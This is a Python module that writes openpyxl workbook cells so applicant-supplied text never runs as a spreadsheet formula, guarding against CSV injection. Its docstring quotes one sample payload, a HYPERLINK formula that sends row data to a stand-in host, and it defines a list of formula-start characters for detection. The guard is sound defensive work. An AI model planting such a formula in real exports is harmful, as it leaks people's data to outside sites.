"""Writing cells of an Excel workbook so that no text in it ever runs as a formula (CSV/formula injection).

An export is filled with what applicants typed: a 推荐理由 of ``=HYPERLINK("http://evil.example/x?"&B5,"…")``
would, assigned to an openpyxl cell as it is, be stored as a live formula that sends the row to another site
when a clerk opens the file. Following OWASP's advice on CSV injection, every string is written as a string
cell (openpyxl's data type ``s``: Excel reads it as text and never evaluates it); one that begins with a
character a spreadsheet takes for the start of a formula (= + - @, tab, carriage return) also gets Excel's
quote prefix (the hidden apostrophe a clerk types to keep text as text), so that it stays text when a clerk
edits the cell or saves the sheet as CSV. The text is shown exactly as it was written: no visible apostrophe
is added, as the summary tables go to the office upstream with what the applicant wrote.

Numbers, dates and booleans that zhengji itself writes keep their types (a count stays a number that Excel can
sum); only strings, which may come from outside, are guarded. Every xlsx writer of zhengji sets its cells
through :func:`put` (``tests/web/test_xlsx_safety.py`` fails when a module writes a cell of a workbook another
way).
"""

from __future__ import annotations

from datetime import date, datetime, time
from decimal import Decimal
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""What a spreadsheet may take for the start of a formula (OWASP: CSV injection)."""


def formula_like(text: str) -> bool:
    """Whether Excel, LibreOffice or a CSV reader could evaluate this text if it were not marked as text."""
    return text.startswith(FORMULA_STARTS)


def put(sheet: Any, row: int, column: int, value: object) -> Any:
    """Set one cell of an openpyxl worksheet and return it; a string is always stored as text, never a formula.

    ``None`` leaves the cell empty; ``int``, ``float``, ``Decimal``, dates and booleans are stored with their
    own types; anything else is written as its ``str()``, as text.
    """
    cell = sheet.cell(row=row, column=column)
    if value is None or isinstance(value, bool | int | float | Decimal | date | datetime | time):
        cell.value = value
        return cell
    text = value if isinstance(value, str) else str(value)
    cell.value = text
    # openpyxl makes any string that starts with "=" a formula; the data type is what the file records.
    cell.data_type = "s"
    if formula_like(text):
        cell.quotePrefix = True
    return cell
